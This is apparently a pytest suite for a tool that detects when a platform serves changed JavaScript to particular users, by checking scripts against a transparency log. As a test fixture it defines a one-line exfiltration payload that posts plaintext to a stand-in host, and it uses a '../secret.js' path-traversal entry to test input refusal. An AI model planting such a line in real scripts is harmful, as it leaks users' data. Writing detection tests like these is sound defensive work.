"""Whoever compares the scripts of a platform with its log notices a page that was changed for somebody (F41)."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from flask import Response

from agents.scripts import EVIDENCE, LIST, files_of, main
from tests.support.databases import Server, clone
from tests.support.market import Market, open_market
from trading.audit import scripts
from trading.audit.service import policy_of, wait_witnessed
from trading.kernel.canonical import dumps, loads_object
from trading.kernel.digests import sha256_hex
from trading.kernel.errors import InvalidInput
from trading.web.permissions import public

WORKER = "seal/worker.js"
EVIL = b"post('https://elsewhere.example/', plaintext);\n"


@pytest.fixture(scope="module")
def market(server: Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Market]:
    with (
        clone(server, demo=True) as database,
        open_market(database, tmp_path_factory.mktemp("scripts"), ()) as market,
    ):
        yield market


@pytest.fixture
def look(market: Market, tmp_path: Path) -> Iterator[Callable[[], Result]]:
    policy = policy_of(market.runtime.witness_policy)
    assert policy is not None
    (key, *_) = policy.log_keys(market.runtime.origin)
    with market.serving() as base:

        def run() -> Result:
            words = [base, "--key", key.vkey, "--state", str(tmp_path / "seen")]
            return CliRunner().invoke(main, words, env={"LANG": "en_GB.UTF-8", "LC_ALL": ""})

        yield run


def serve_otherwise(market: Market, monkeypatch: pytest.MonkeyPatch, endpoint: str, change: Callable[..., Any]) -> None:
    """Answer requests of one endpoint with what ``change`` makes of the answer, or leave it for None."""
    view = market.app.view_functions[endpoint]

    def otherwise(**values: str) -> Any:  # noqa: ANN401 - what a view returns
        changed = change(**values)
        return view(**values) if changed is None else Response(changed)

    monkeypatch.setitem(market.app.view_functions, endpoint, public(otherwise))


def tell(market: Market) -> None:
    """Let the platform say which scripts it serves, and wait until its log says so."""
    scripts.tell(market.runtime)
    with market.runtime.ledger.read() as conn:
        query = "SELECT h FROM log.audit_entry WHERE kind = 'release.installed' ORDER BY id DESC LIMIT 1"
        h = bytes(conn.exec_driver_sql(query).scalar_one())
    assert wait_witnessed(market.runtime, h, 20.0) is not None


def kept(tmp_path: Path) -> list[str]:
    return sorted(path.name for path in (tmp_path / "seen" / EVIDENCE).glob("*/*"))


def told(market: Market) -> int:
    with market.runtime.ledger.read() as conn:
        query = "SELECT count(*) FROM log.audit_entry WHERE kind = 'release.installed'"
        return int(conn.exec_driver_sql(query).scalar_one())


def test_scripts_are_told_once_and_agree(market: Market, look: Callable[[], Result]) -> None:
    result = look()
    assert result.exit_code == 2, result.output  # nothing is in the log yet
    tell(market)
    tell(market)
    assert told(market) == 1
    result = look()
    assert result.exit_code == 0, result.output
    assert f"the list {scripts.digest()} in the log" in result.output


def test_a_changed_script_is_found_and_kept(
    market: Market, look: Callable[[], Result], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    tell(market)
    serve_otherwise(market, monkeypatch, "static", lambda filename: EVIL if filename == WORKER else None)
    result = look()
    assert result.exit_code == 1
    assert f"{WORKER} is not the script that the list names" in result.output
    assert kept(tmp_path) == ["scripts.json", "scripts.tlog-proof", "seal-worker.js"]
    assert not (tmp_path / "seen" / LIST).exists()


def test_a_list_made_for_one_reader_is_found(
    market: Market, look: Callable[[], Result], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Script and list agree with each other: only the log convicts them."""
    tell(market)
    content = loads_object(scripts.listed())
    content["files"] = [
        {**each, "sha256": sha256_hex(EVIL)} if each["path"] == WORKER else each for each in content["files"]
    ]
    serve_otherwise(market, monkeypatch, "static", lambda filename: EVIL if filename == WORKER else None)
    serve_otherwise(market, monkeypatch, "log.script_list", lambda: dumps(content))
    result = look()
    assert result.exit_code == 1
    assert "the log tells another list of scripts" in result.output
    assert kept(tmp_path) == ["scripts.json", "scripts.tlog-proof"]


def test_another_release_is_told_and_named(
    market: Market, look: Callable[[], Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    tell(market)
    assert look().exit_code == 0
    before, count, content = scripts.digest(), told(market), loads_object(scripts.listed())
    content["files"] = content["files"][1:]
    monkeypatch.setattr(scripts, "listed", lambda: dumps(content))
    monkeypatch.setattr(scripts, "digest", lambda: sha256_hex(dumps(content)))
    result = look()
    assert result.exit_code == 2, result.output  # a release that has not said so yet
    tell(market)
    assert told(market) == count + 1
    result = look()
    assert result.exit_code == 0, result.output
    assert f"another release than last time, whose list was {before}" in result.output


@pytest.mark.parametrize(
    "changed",
    [
        {"v": 2},
        {"files": []},
        {"files": [{"path": "../secret.js", "sha256": "00" * 32}]},
        {"files": [{"path": "a.js", "sha256": "00" * 32}] * 2},
    ],
)
def test_what_is_no_list_is_refused(changed: dict[str, Any]) -> None:
    with pytest.raises(InvalidInput, match=r"scripts\.malformed"):
        files_of(dumps({**loads_object(scripts.listed()), **changed}))


def test_a_page_demands_every_module_that_it_imports() -> None:
    assert set(scripts.modules("seal/page.js")) > {
        "seal/page.js",
        "seal/client.js",
        "reopen/package.js",
        "verify/es256.js",
    }
    assert scripts.modules("seal/told.js") == ("seal/told.js",)
